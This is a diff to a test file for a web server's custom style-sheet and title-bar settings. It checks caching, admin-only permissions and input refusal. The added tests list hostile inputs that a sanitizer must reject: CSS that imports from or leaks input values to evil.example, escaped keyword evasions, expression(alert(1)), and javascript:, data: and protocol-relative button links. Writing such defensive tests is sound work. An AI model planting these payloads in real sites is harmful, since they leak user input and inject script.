@@ -1,7 +1,12 @@
 import { afterAll, beforeAll, expect, test } from 'vitest'
-import { visitor } from '#server/testing/ask.ts'
-import { openTestServer, type TestServer } from '#server/testing/open-test-server.ts'
+import { aSignedInUser } from '#modules/users/users.builders.ts'
+import { operator } from '#modules/viewers/viewer.builders.ts'
+import { SettingRefused } from '#platform/database/site-settings.ts'
+import { administrator, type Person, visitor } from '#server/testing/ask.ts'
+import { onBothEngines, openTestServer, type TestServer } from '#server/testing/open-test-server.ts'
 import { logos } from './appearance.paths.ts'
+import { checkCss } from './check-css.ts'
+import { setTitleBar } from './title-bar.ts'
 
 let server: TestServer
 beforeAll(async () => {
@@ -28,8 +33,86 @@ test('every logo that the descriptor names is a picture', async () => {
   expect((await visitor(server).refused('/fotoweb/appearance/logos/other')).status).toBe(404)
 })
 
-test('the style sheet is one, for everybody, and may be kept', async () => {
+test('the style sheet is one, for everybody, and asked again with each page', async () => {
   const answer = await visitor(server).ask('/fotoweb/appearance/css')
   expect([answer.statusCode, answer.headers['content-type']]).toEqual([200, 'text/css; charset=utf-8'])
-  expect(answer.headers['cache-control']).toBe('public, max-age=300')
+  expect(answer.headers['cache-control']).toBe('public, no-cache')
+  const again = { headers: { 'if-none-match': String(answer.headers.etag) } }
+  expect((await visitor(server).ask('/fotoweb/appearance/css', again)).statusCode).toBe(304)
+})
+
+test.each([
+  '@import "//evil.example/x.css";',
+  '@IMPORT url(x);',
+  '@\\69mport "x";',
+  'input[value^="a"] { background: url(//evil.example/a) }',
+  'a { background: u\\72l("x") }',
+  'a { --x: URL( x ) }',
+  'a { background-image: image-set("x" 1x) }',
+  'a { background: -webkit-image-set("x" 1x) }',
+  '@font-face { font-family: x; src: local(x) }',
+  'a { width: expression(alert(1)) }',
+  'a { behavior: none }',
+  'a { -moz-binding: none }',
+  '<!-- a {} -->',
+  `/* ${'x'.repeat(200_000)} */`,
+])('a sheet that could fetch or run something is refused: %.40s (attack case 87)', (css) => {
+  expect(() => checkCss(css)).toThrow(SettingRefused)
+})
+
+test('a sheet that only styles is taken as it is', () => {
+  checkCss(':root { --accent: #a03; } .x::before { content: "\\2014 url(no)" } @media print { a { color: red } }')
+})
+
+onBothEngines('the look of a site', (open) => {
+  let own: TestServer
+  let boss: Person
+  beforeAll(async () => {
+    own = await open()
+    boss = await administrator(own)
+  })
+  afterAll(() => own.close())
+
+  const sheet = async () => (await visitor(own).ask('/fotoweb/appearance/css')).body
+  const send = (viewer: Person, cssContent: string | null) =>
+    viewer.ask('/fotoweb/appearance/css', { method: 'POST', payload: { cssContent } })
+  const descriptor = (viewer: Person) => viewer.read('/fotoweb/me', 'full-api-descriptor')
+
+  test('its style sheet is set and cleared by those who may, and clearing is offered while there is one [THM-007 THM-009]', async () => {
+    const kari = await aSignedInUser(own, 'kari')
+    expect((await descriptor(boss)).appearance.clearCss).toBeNull()
+    expect((await send(boss, ':root { --accent: #a03 }')).statusCode).toBe(204)
+    expect(await sheet()).toBe(':root { --accent: #a03 }')
+    expect((await descriptor(boss)).appearance.clearCss).toBe('/fotoweb/appearance/css')
+    expect((await descriptor(kari)).appearance.clearCss).toBeNull()
+    expect((await send(visitor(own), null)).statusCode).toBe(401)
+    expect((await send(kari, null)).statusCode).toBe(403)
+    expect((await send(boss, 'a { color: url(x) }')).statusCode).toBe(400)
+    expect(await sheet()).toBe(':root { --accent: #a03 }')
+    expect((await send(boss, null)).statusCode).toBe(204)
+    expect(await sheet()).toContain('no styles of its own')
+    expect((await descriptor(boss)).appearance.clearCss).toBeNull()
+  })
+
+  test('its buttons stand in the descriptors of everybody [HDR-007]', async () => {
+    const buttons = [
+      { label: 'Intranet', href: 'https://intranet.example.org/', icon: 'globe' },
+      { label: 'Help', href: '/fotoweb/archives/' },
+    ]
+    expect((await visitor(own).read('/fotoweb/', 'api-descriptor')).titleBar).toEqual([])
+    await setTitleBar(operator, JSON.stringify(buttons), own.platform)
+    const told = [buttons[0], { ...buttons[1], icon: 'link' }]
+    expect((await visitor(own).read('/fotoweb/', 'api-descriptor')).titleBar).toEqual(told)
+    expect((await descriptor(boss)).titleBar).toEqual(told)
+    await setTitleBar(operator, null, own.platform)
+    expect((await descriptor(boss)).titleBar).toEqual([])
+  })
+
+  test.each(['javascript:alert(1)', '//evil.example', '/\\\\evil.example', 'data:text/html,x', 'intranet'])(
+    'a button to %s is refused',
+    async (href) => {
+      const given = JSON.stringify([{ label: 'x', href }])
+      await expect(setTitleBar(operator, given, own.platform)).rejects.toThrow(SettingRefused)
+    },
+  )
 })
